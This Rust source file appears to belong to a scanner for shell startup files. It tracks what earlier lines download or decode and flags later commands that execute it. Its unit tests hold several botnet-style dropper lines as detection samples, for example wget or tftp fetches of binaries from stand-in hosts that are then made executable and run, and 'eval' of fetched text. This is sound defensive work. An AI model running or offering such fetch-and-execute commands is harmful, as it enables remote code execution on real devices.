//! What earlier lines of a startup file have fetched or decoded and where they have gone, and what later ones run of it.

use super::commands::{Commands, Role, is_starter};
use super::decode::decode;
use super::embedded::is_plain;
use super::fetch::{Product, fetch};
use super::options::arguments;
use super::place::{is_odd_program, place};
use super::runs::executed;
use super::text::{Bytes, basename, is_below, one_of};
use crate::limits::{FETCHED, FETCHED_BYTES, WRITTEN};

/// Where a file comes from that a startup file runs.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Origin {
    /// The network.
    Fetched,
    /// A text that was decoded.
    Decoded,
}

/// How a startup file writes a text itself.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Wrote {
    /// As a here-document, whose lines are looked at like all others, or as words that do nothing of interest.
    Lines,
    /// By printing it, without escapes.
    Text,
}

/// What earlier lines of one startup file have fetched or decoded and where they have gone.
#[derive(Clone, Debug, Default)]
pub struct Memory {
    brought: heapless::Vec<(Bytes<FETCHED_BYTES>, Brought), FETCHED>,
    written: heapless::Vec<(Bytes<FETCHED_BYTES>, Wrote), WRITTEN>,
    directory: Bytes<FETCHED_BYTES>,
    directory_line: u32,
    runs: Option<Run>,
    from_directory: Option<u16>,
    /// The file that the last here-document went to, if no shell reads it, and whether the line is part of it.
    body: Bytes<FETCHED_BYTES>,
    in_body: bool,
    full: bool,
}

/// What earlier lines of its file say of a line.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Joined<'a> {
    /// Its first command that runs what the file fetched or decoded.
    pub runs: Option<Run>,
    /// Its first command that runs something by a name relative to an odd place.
    pub from_odd_directory: Option<u16>,
    /// The directory that the file has changed to, where it is known.
    pub directory: &'a [u8],
    /// The line goes to a file of settings, as part of a here-document.
    pub is_setting: bool,
    /// Files in odd places that the file has written itself.
    written: &'a [(Bytes<FETCHED_BYTES>, Wrote)],
}

impl Joined<'_> {
    /// How earlier lines wrote a file, if all that is known to be in it is their own text.
    #[must_use]
    pub fn wrote(&self, file: &[u8]) -> Option<Wrote> {
        self.written.iter().find(|(name, _)| name.as_slice() == file).map(|(_, how)| *how)
    }
}

/// How something was brought here.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Brought {
    /// Where it comes from.
    pub origin: Origin,
    /// The line that brought it.
    pub line: u32,
}

/// A command that runs what was brought.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Run {
    /// The command in its line.
    pub command: u16,
    /// What it runs.
    pub what: Brought,
}

impl Memory {
    /// Of a file of which nothing was read.
    #[must_use]
    pub const fn new() -> Self {
        Self {
            brought: heapless::Vec::new(),
            written: heapless::Vec::new(),
            directory: Bytes::new(),
            directory_line: 0,
            runs: None,
            from_directory: None,
            body: Bytes::new(),
            in_body: false,
            full: false,
        }
    }

    /// About the last line learnt.
    #[must_use]
    pub fn joined(&self) -> Joined<'_> {
        Joined {
            runs: self.runs,
            from_odd_directory: self.from_directory,
            directory: self.directory.as_slice(),
            is_setting: self.in_body
                && self.body.as_slice().ends_with(b".conf")
                && is_below(self.body.as_slice(), b"/etc"),
            written: &self.written,
        }
    }

    /// Whether more was fetched or decoded than is remembered.
    #[must_use]
    pub const fn is_full(&self) -> bool {
        self.full
    }

    /// Learns from the commands of one line, in their order. `body`: it is a line of a here-document.
    pub(super) fn learn(&mut self, commands: &Commands, line: u32, body: bool) {
        self.runs = None;
        self.from_directory = None;
        self.in_body = body;
        let written = body && !self.body.is_empty();
        for (index, _) in commands.iter() {
            let (mut run, mut relative) = (None, false);
            let is_shell = commands.is_shell(index);
            executed(commands, index, &mut |word| {
                let named = word.contains(&b'/') || word.first() == Some(&b'$') || is_shell;
                run = run.or_else(|| self.how(word).filter(|_| named));
                // What only starts the shell is no script: `nohup sh /usr/bin/x`.
                let script = is_shell && commands.name(index) != basename(word) && !is_starter(word);
                relative |= word.first().is_some_and(|b| !matches!(b, b'/' | b'$' | b'-'))
                    && (word.contains(&b'/') || script)
                    && self.is_odd_there(word);
            });
            // What the shell puts in the place of a variable is the content of that file; whoever runs it runs this.
            let stands = commands.program(index).next().is_some_and(|word| word.first() == Some(&b'$'));
            if written && stands {
                let file = self.body.clone();
                self.remember(file.as_slice(), run);
            } else if let Some(what) = run {
                self.runs = self.runs.or(Some(Run { command: index, what }));
            }
            if relative {
                self.from_directory = self.from_directory.or(Some(index));
            }
            self.note(commands, index, line);
        }
        if !body {
            self.body.clear();
            self.body.push(document(commands));
        }
    }

    /// Whether a relative name is in an odd place, as far as the directory is known.
    fn is_odd_there(&self, word: &[u8]) -> bool {
        let mut path = self.directory.clone();
        path.push(b"/");
        path.push(word);
        !self.directory.is_empty() && place(path.as_slice()).is_odd()
    }

    fn note(&mut self, commands: &Commands, index: u16, line: u32) {
        let operands = || arguments(commands, index).filter(|word| word.first() != Some(&b'-'));
        let brought = |origin| Brought { origin, line };
        let fed = commands.feeders(index).find_map(|from| origin(commands, from)).map(brought);
        let name = commands.name(index);
        let is = one_of(name);
        match name {
            // `cd /tmp || cd /mnt || cd /`: the first that there is, so on one line an odd one stays.
            _ if is(b"cd pushd") => {
                let there = operands().next().filter(|dir| dir.first() == Some(&b'/')).unwrap_or_default();
                let odd = place(self.directory.as_slice()).is_odd() && self.directory_line == line;
                if !odd {
                    self.directory = Bytes::of(there);
                    self.directory_line = line;
                }
            }
            _ if is(b"mv cp") => {
                let mut operands = operands();
                if let (Some(from), Some(to)) = (operands.next(), operands.next()) {
                    self.also(from, to);
                }
            }
            b"cat" => {
                if let (Some(from), Some(to)) =
                    (operands().next(), commands.words(index, Role::Output).next())
                {
                    self.also(from, to);
                }
            }
            // `wget … | while read l; do eval "$l"; done`
            b"read" => {
                if let Some(name) = operands().next() {
                    self.remember(of_variable(name).as_slice(), fed);
                }
            }
            b"tee" => operands().for_each(|file| self.remember(file, fed)),
            b"dd" => {
                for file in operands().filter_map(|word| word.strip_prefix(b"of=")) {
                    self.remember(file, fed);
                }
            }
            b"" => self.variable(commands, index, line),
            _ => {}
        }
        for (origin, product) in
            [(Origin::Fetched, fetch(commands, index)), (Origin::Decoded, decode(commands, index))]
        {
            if let Some(Product::File(file)) = product {
                self.remember(file, Some(brought(origin)));
            }
        }
        if let Some(file) = commands.words(index, Role::Output).next() {
            let before = self.joined().wrote(file);
            self.remember(file, fed);
            self.wrote(file, own_text(commands, index).filter(|_| fed.is_none()), before);
        }
    }

    /// Remembers that a file in an odd place holds a text of the startup file's own. What is not remembered is accused.
    fn wrote(&mut self, file: &[u8], how: Option<Wrote>, before: Option<Wrote>) {
        let name = Bytes::of(file);
        if let Some(how) = how
            && is_odd_program(file)
            && self.how(file).is_none()
            && !name.is_cut()
        {
            // More may have been appended.
            let how = if before == Some(Wrote::Text) { Wrote::Text } else { how };
            let _ = self.written.push((name, how));
        }
    }

    /// `x=$(wget …)`: what `$x` holds was fetched. What a filter makes of it is something else.
    fn variable(&mut self, commands: &Commands, index: u16, line: u32) {
        let mut found = None;
        let mut last = None;
        for inner in commands.inside(index) {
            let own = origin(commands, inner);
            // Text that was fetched is the same after it was decoded.
            found = match (own, found) {
                (Some(Origin::Fetched), _) if last.is_none() => own,
                (Some(Origin::Decoded), Some(Origin::Fetched)) => found,
                (Some(Origin::Decoded), _) => own,
                _ => None,
            };
            last = Some(inner);
        }
        let Some(origin) = found else { return };
        for word in commands.words(index, Role::Argument) {
            if let Some(name) = word.strip_suffix(b"=") {
                self.remember(of_variable(name).as_slice(), Some(Brought { origin, line }));
            }
        }
    }

    /// A copy of what was brought was brought too.
    fn also(&mut self, from: &[u8], to: &[u8]) {
        self.remember(to, self.how(from));
    }

    /// Remembers how a file was brought, if it was.
    fn remember(&mut self, file: &[u8], brought: Option<Brought>) {
        self.written.retain(|(name, _)| name.as_slice() != file);
        let Some(brought) = brought else { return };
        let nowhere = [&b"/dev/null"[..], b"/sys/", b"/proc/"].iter().any(|place| file.starts_with(place));
        if nowhere || self.how(file).is_some() {
            return;
        }
        let name = Bytes::of(file);
        if name.is_cut() || self.brought.push((name, brought)).is_err() {
            self.full = true;
        }
    }

    /// How a file of this name was brought. Two absolute paths must be equal; otherwise the directory is not known and
    /// the last component decides.
    fn how(&self, file: &[u8]) -> Option<Brought> {
        let absolute = |path: &[u8]| path.first() == Some(&b'/');
        let same = |kept: &[u8]| {
            if absolute(kept) && absolute(file) { kept == file } else { basename(kept) == basename(file) }
        };
        let is_name = !basename(file).is_empty();
        self.brought.iter().find(|(kept, _)| is_name && same(kept.as_slice())).map(|(_, how)| *how)
    }
}

/// The file that a here-document behind these commands goes to; none if a shell reads it.
fn document(commands: &Commands) -> &[u8] {
    let mut file = None;
    for (index, _) in commands.iter() {
        if commands.is_shell(index) {
            return b"";
        }
        if commands.words(index, Role::HereDocument).next().is_some() {
            file = file.or(commands.words(index, Role::Output).next());
        }
    }
    file.unwrap_or_default()
}

/// What a variable is in the place of a program: `$x`.
fn of_variable(name: &[u8]) -> Bytes<FETCHED_BYTES> {
    let mut variable = Bytes::of(b"$");
    variable.push(name);
    variable
}

/// Where the output of a command comes from, as far as that matters.
fn origin(commands: &Commands, command: u16) -> Option<Origin> {
    if fetch(commands, command) == Some(Product::Output) {
        Some(Origin::Fetched)
    } else if decode(commands, command) == Some(Product::Output) {
        Some(Origin::Decoded)
    } else {
        None
    }
}

/// How a command writes a text that stands in the startup file.
fn own_text(commands: &Commands, command: u16) -> Option<Wrote> {
    let mut words = arguments(commands, command);
    let name = commands.name(command);
    let is = one_of(name);
    match name {
        b"cat" if words.next().is_none() => {
            commands.words(command, Role::HereDocument).next().map(|_| Wrote::Lines)
        }
        _ if is(b"echo printf") && words.clone().any(|word| word.contains(&b'\\')) => None,
        _ if is(b"echo printf") => Some(if words.all(is_plain) { Wrote::Lines } else { Wrote::Text }),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn runs(text: &[u8]) -> Option<u32> {
        let (mut commands, mut memory) = (Commands::new(), Memory::new());
        (1_u32..).zip(text.split(|b| *b == b'\n')).find_map(|(number, line)| {
            commands.parse(line);
            memory.learn(&commands, number, false);
            memory.joined().runs.map(|run| run.what.line)
        })
    }

    #[test]
    fn what_was_fetched_and_is_run_later() {
        for text in [
            &b"wget http://h/bins.sh; chmod 777 bins.sh; sh bins.sh"[..],
            b"cd /tmp\ntftp -g -l d -r m.mips 192.0.2.1\n./d",
            b"curl -o /tmp/x http://h/y && chmod +x /tmp/x && /tmp/x &",
            b"wget -O \"$F\" http://h/x\nchmod +x $F\n${F}",
            b"wget http://h/a; mv a /etc/b\n. /etc/b",
            b"curl http://h/x | gunzip > /tmp/y; nohup /tmp/y",
            b"wget http://h/x -O /tmp/x\nstart-stop-daemon -S -b -x /tmp/x",
            b"cd /tmp || cd /; wget http://h/mips; cat mips >WTF; chmod +x *; ./WTF",
            b"x=$(wget -qO- http://h/x); eval \"$x\"",
            b"wget http://h/x; sh <x",
            b"wget http://h/x; cat x | sh",
            b"wget -O- http://h/x | tee /tmp/y; sh /tmp/y",
        ] {
            assert!(runs(text).is_some(), "{}", String::from_utf8_lossy(text));
        }
    }

    #[test]
    fn what_is_only_saved_is_not_run() {
        for text in [
            &b"wget -O /tmp/fw.bin http://h/fw.bin; sysupgrade /tmp/fw.bin"[..],
            b"curl -o $TMP http://h/list; sort $TMP > /tmp/list; mv /tmp/list /etc/list",
            b"wget -qO- http://h/ip | grep x > /tmp/ip; read IP < /tmp/ip",
            b"sh x; wget http://h/x",
            b"wget http://h/sysupgrade; sysupgrade",
        ] {
            assert_eq!(runs(text), None, "{}", String::from_utf8_lossy(text));
        }
    }
}
